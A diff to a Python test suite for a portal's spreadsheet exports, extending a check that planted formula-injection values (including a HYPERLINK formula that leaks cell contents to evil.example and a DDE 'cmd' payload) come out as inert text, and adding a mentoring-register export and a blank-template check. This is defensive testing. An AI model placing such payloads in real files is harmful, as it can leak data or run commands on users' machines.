@@ -26,6 +26,8 @@ from portal.demo.roadmaps import demo_pdf
 from portal.documents import operations as documents
 from portal.documents.models import DocumentKind
 from portal.extensions import db
+from portal.mentoring import operations as mentoring
+from portal.mentoring.models import ParticipantRole
 from portal.reports import period_operations
 from portal.reports.models import Report, ReportState, ReportValue
 from portal.roadmaps import operations as roadmaps
@@ -40,7 +42,8 @@ SHAPES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"{tag}\")", "+1+cmd|' /C cal
           "\r=1+1 {tag}", "  =1+1 {tag}", "\uff1d1+1 {tag}"]
 FIELDS = ["region", "municipality", "org_name", "org_short", "org2_name", "college_name",
           "label_ru", "label_en", "raw_value", "event_title", "event_responsible",
-          "event_note", "event_result", "execution_note", "execution_order"]
+          "event_note", "event_result", "execution_note", "execution_order",
+          "person_name", "person_position", "person_education"]
 PLANTED = {field: SHAPES[i % len(SHAPES)].format(tag=f"TAG-{field}")
            for i, field in enumerate(FIELDS)}
 TAG = re.compile(r"TAG-([a-z_0-9]+)")
@@ -109,11 +112,16 @@ def planted(factory):
     documents.add_version(school, documents.Upload(
         DocumentKind.REGULATION, order_number=PLANTED["org_short"], order_date=date(2025, 9, 1),
         stream=io.BytesIO(demo_pdf("order")), filename="order.pdf"), None)
+    mentoring.create_participant(school, mentoring.ParticipantData(
+        full_name=PLANTED["person_name"], position=PLANTED["person_position"],
+        education=PLANTED["person_education"], experience_years=12,
+        role=ParticipantRole.MENTOR, consent_on=date(2025, 9, 1)))
     db.session.flush()
     ids = {"region_id": region.id, "municipality_id": municipality.id, "org_id": school.id,
            "period_id": q2.id, "roadmap_id": roadmap.id}
     users = {"municipal": factory.user(Role.MUNICIPAL, municipality),
-             "regional": factory.user(Role.REGIONAL, region)}
+             "regional": factory.user(Role.REGIONAL, region),
+             "curator": factory.user(Role.CURATOR, school)}
     return ids, users
 
 
@@ -130,10 +138,13 @@ ROUTES = {
     "roadmaps.export": ("municipal", None, ("date",)),
     "roadmaps.print_xlsx": ("municipal", None, ("date",)),
     "roadmaps.presence_xlsx": ("municipal", None, ("date",)),
+    "mentoring.register_export": ("curator", None, ("date",)),
 }
 # Stored files are sent as they were uploaded (checked by structure on upload, never a table
 # the portal writes).
-STORED = {"documents.download"}
+STORED = {"documents.download", "mentoring.consent_download"}
+# Empty forms to fill in, holding no user-supplied text: checked for formulas only.
+BLANK = {"mentoring.register_template": "curator"}
 
 
 def _download_rules(app):
@@ -204,7 +215,7 @@ def _urls(rule, ids, charts):
 
 def test_every_export_route_writes_planted_formulas_as_inert_text(app, client, planted):
     ids, users = planted
-    rules = [r for r in _download_rules(app) if r.endpoint not in STORED]
+    rules = [r for r in _download_rules(app) if r.endpoint not in STORED | set(BLANK)]
     unknown = [r.endpoint for r in rules if r.endpoint not in ROUTES]
     assert not unknown, f"new export routes: add them to ROUTES with planted data: {unknown}"
     assert {r.endpoint for r in rules} == set(ROUTES)
@@ -226,6 +237,18 @@ def test_every_export_route_writes_planted_formulas_as_inert_text(app, client, p
         client.post_form("/logout")
     # Not in any file: the region's name; the English label (the walk is in Russian).
     assert seen == set(FIELDS) - {"region", "label_en"}
+
+
+def test_blank_templates_hold_no_formula(app, client, planted):
+    ids, users = planted
+    blank = [r for r in _download_rules(app) if r.endpoint in BLANK]
+    assert {r.endpoint for r in blank} == set(BLANK)
+    for rule in blank:
+        client.login(users[BLANK[rule.endpoint]])
+        with client.get(_path(rule, ids)) as response:
+            assert response.status_code == 200, rule.endpoint
+            assert check_xlsx(response.get_data()) == (set(), set())
+        client.post_form("/logout")
 
 
 def test_report_export_keeps_typed_text_exact_and_numbers_numeric(app, client, planted):
